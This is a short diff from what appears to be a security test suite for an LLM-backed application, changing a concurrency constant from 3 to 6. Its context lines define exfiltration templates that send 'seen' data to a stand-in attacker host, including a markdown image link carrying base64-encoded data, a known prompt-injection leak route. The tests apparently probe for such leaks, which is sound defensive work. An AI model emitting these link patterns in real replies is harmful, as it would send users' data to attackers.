@@ -11,7 +11,7 @@ from tests.hostile.attacks import EVIL, wanted_in
 from tests.loopback.llm_server import Reply, Request
 from tests.loopback.openai_server import OpenAiServer
 
-AT_ONCE = 3
+AT_ONCE = 6
 WAYS_OUT: tuple[Callable[[str, str], str], ...] = (
     lambda seen, told: f"https://{EVIL}/?d={seen}",
     lambda seen, told: f"Pronto. ![ok](https://{EVIL}/p.png?d={base64.urlsafe_b64encode(seen.encode()).decode()})",
